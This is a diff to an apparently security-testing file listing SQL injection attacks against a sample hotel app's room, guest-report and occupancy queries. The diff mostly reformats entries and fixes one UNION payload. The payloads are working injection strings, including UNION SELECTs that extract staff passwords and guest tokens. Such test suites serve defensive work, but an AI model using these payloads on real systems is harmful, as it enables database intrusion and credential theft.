@@ -108,9 +108,7 @@ ATTACKS = [
     ),
     Attack("SQL", "list_rooms", _kind("' || 'suite' OR 'a' LIKE '%"), "Owner's flat"),
     Attack("SQL", "get_room", _room("3 OR id = 3"), "Owner"),
-    Attack(
-        "SQL", "get_room", _room("-1 UNION SELECT 1, login, password, 0, 0, 0 FROM staff"), PASSWORD
-    ),
+    Attack("SQL", "get_room", _room("-1 UNION SELECT 1, login, password, 0, 0, 0 FROM staff"), PASSWORD),
     Attack("SQL", "get_room", _room("-1\tor\thidden=1"), "Owner"),
     Attack(
         "SQL, blind",
@@ -150,7 +148,7 @@ ATTACKS = [
         TOKEN,
     ),
     Attack(
-        "SQL", "guest_report", {"columns": ["city FROM guests UNION SELECT token, 1 FROM guests --"]}, TOKEN
+        "SQL", "guest_report", {"columns": ["city, 1 FROM guests UNION SELECT token, 1 FROM guests --"]}, TOKEN
     ),
     Attack(
         "SQL",
@@ -158,9 +156,7 @@ ATTACKS = [
         {"columns": ["(SELECT group_concat(token) FROM guests)"]},
         TOKEN,
     ),
-    Attack(
-        "SQL", "occupancy", bus("Report", {"month": "x' UNION ALL SELECT 4000 + 242 --"}), "4242"
-    ),
+    Attack("SQL", "occupancy", bus("Report", {"month": "x' UNION ALL SELECT 4000 + 242 --"}), "4242"),
     Attack(
         "SQL, file",
         "occupancy",
